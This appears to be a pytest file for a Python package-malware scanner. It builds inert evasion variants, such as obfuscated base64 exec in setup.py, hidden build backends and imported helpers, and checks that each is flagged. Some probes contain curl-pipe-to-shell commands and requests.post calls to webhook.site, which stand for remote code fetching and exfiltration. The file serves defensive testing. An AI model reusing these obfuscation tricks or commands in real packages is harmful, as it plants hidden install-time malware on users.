"""Ways around other scanners, in inert variants of our own: each leads to the same finding here.

What other analysers catch (shell scripts, archives in archives, bytecode, direct URLs) is tested beside them.
"""

from __future__ import annotations

import base64
import codecs
import zlib
from typing import TYPE_CHECKING

import pytest

from scanner.model import RUNNING_ROLES, Severity

if TYPE_CHECKING:
    from tests.scanner.behaviour.conftest import Found

B64 = base64.b64encode(b"print('marker: nothing happens here')").decode()
PACKED = base64.b64encode(zlib.compress(b"print('marker: nothing happens here')")).decode()
TURNED = base64.b64encode(b"print('marker: nothing happens here')").decode()[::-1]
ROTATED = codecs.encode(B64, "rot13")
SETUP = "pkg-1.0/setup.py"
TAIL = "\nfrom setuptools import setup\nsetup(name='pkg')\n"

PROBES = {
    "plain": {SETUP: f"import base64\nexec(base64.b64decode('{B64}')){TAIL}"},
    "unbalanced quotes in a comment": {SETUP: f'# """\nimport base64\nexec(base64.b64decode("{B64}")){TAIL}'},
    "unbalanced quotes and a licence": {SETUP: f"# ''' nosec\nimport base64\nexec(base64.b64decode('{B64}')){TAIL}"},
    "aliases": {SETUP: f"from base64 import b64decode as q\ne = exec\ne(q('{B64}')){TAIL}"},
    "aliases of aliases": {SETUP: f"import base64 as b\nq = b.b64decode\nr = q\ne = f = exec\nf(r('{B64}')){TAIL}"},
    "getattr with parts": {
        SETUP: (
            f"import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(getattr(base64, 'b64' + 'decode')('{B64}')){TAIL}"
        ),
    },
    "lambda of modules": {
        SETUP: (
            f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__))\n"
            f"exec(_(b'{PACKED}')){TAIL}"
        ),
    },
    "reversed literal": {SETUP: f"import base64\nexec(base64.b64decode('{TURNED}'[::-1])){TAIL}"},
    "rotated literal": {
        SETUP: f"import base64, codecs\nexec(base64.b64decode(codecs.decode('{ROTATED}', 'rot13'))){TAIL}"
    },
    "literal in pieces": {
        SETUP: f"import base64\na = '{B64[:20]}'\nb = '{B64[20:]}'\nexec(base64.b64decode(''.join([a, b]))){TAIL}"
    },
    "decorators": {SETUP: f"import base64\n@exec\n@lambda _: base64.b64decode('{B64}')\nclass X:\n    pass\n{TAIL}"},
    "class body and method": {
        SETUP: (
            f"import base64\nclass X:\n    k = '{B64}'\n    def __init__(self):\n"
            f"        exec(base64.b64decode(self.k))\nX(){TAIL}"
        ),
    },
    "walrus and comprehension": {
        SETUP: f"import base64\n[exec(y) for x in ['{B64}'] if (y := base64.b64decode(x))]{TAIL}"
    },
    "default argument": {SETUP: f"import base64\ndef f(c=base64.b64decode('{B64}'), e=exec):\n    e(c)\nf(){TAIL}"},
    "function type": {
        SETUP: (
            f"import base64, marshal, types\ntypes.FunctionType(marshal.loads(base64.b64decode('{B64}')), {{}})(){TAIL}"
        ),
    },
    "data file": {SETUP: f"exec(open('data.json').read()){TAIL}", "pkg-1.0/data.json": "print('marker')"},
    "data file by pathlib": {
        SETUP: f"import pathlib\nexec((pathlib.Path(__file__).parent / 'logo.png').read_text()){TAIL}",
        "pkg-1.0/logo.png": "print('marker')",
    },
    "build backend in the tree": {
        "pkg-1.0/pyproject.toml": "[build-system]\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
        "pkg-1.0/_build/backend.py": "import os\nos.system('curl -s https://host.invalid/x.sh | sh')\n",
    },
    "helper that the build script imports": {
        SETUP: f"import helper\nhelper.go(){TAIL}",
        "pkg-1.0/helper.py": f"import base64\ndef go():\n    exec(base64.b64decode('{B64}'))\n",
    },
    "folder of tests that the package imports": {
        "pkg/__init__.py": "from pkg.tests import payload\n",
        "pkg/tests/__init__.py": "",
        "pkg/tests/payload.py": f"import base64\nexec(base64.b64decode('{B64}'))\n",
    },
    "receiver": {"pkg/__init__.py": "import requests\nrequests.post('https://webhook.site/0000', data='x')\n"},
    "receiver beside a benign file": {
        "pkg/a.py": "import requests\ndef get(url):\n    return requests.get(url)\n",
        "pkg/__init__.py": "import requests\nrequests.post('https://webhook.site/0000', data='x')\n",
    },
    "python in a command": {
        "pkg/__init__.py": "import os\nos.system('curl -s https://host.invalid/stage | python3')\n",
    },
    "code that old Python reads": {SETUP: f"import base64\nprint 'installing'\nexec base64.b64decode('{B64}'){TAIL}"},
    "code with a mistake": {SETUP: f"import base64\nx = = 1\nexec(base64.b64decode('{B64}')){TAIL}"},
}


@pytest.mark.parametrize("members", PROBES.values(), ids=PROBES.keys())
def test_the_evasion_is_found_where_it_runs(members: dict[str, str], found: Found) -> None:
    severe = [f for f in found(members) if f.severity in {Severity.HIGH, Severity.CRITICAL} and f.role in RUNNING_ROLES]
    assert severe != []


def test_a_payload_that_nothing_executes_is_no_finding(found: Found) -> None:
    members = {SETUP: "from setuptools import setup\nsetup()\n", "pkg-1.0/helper.txt": f"exec('{B64}')"}
    assert found(members) == []


def test_the_same_chain_in_tests_has_the_role_of_tests(found: Found) -> None:
    members = {
        "pkg/__init__.py": "",
        "pkg/tests/test_x.py": "import requests\nrequests.post('https://webhook.site/0000', data='x')\n",
    }
    assert {finding.role.value for finding in found(members)} == {"test"}
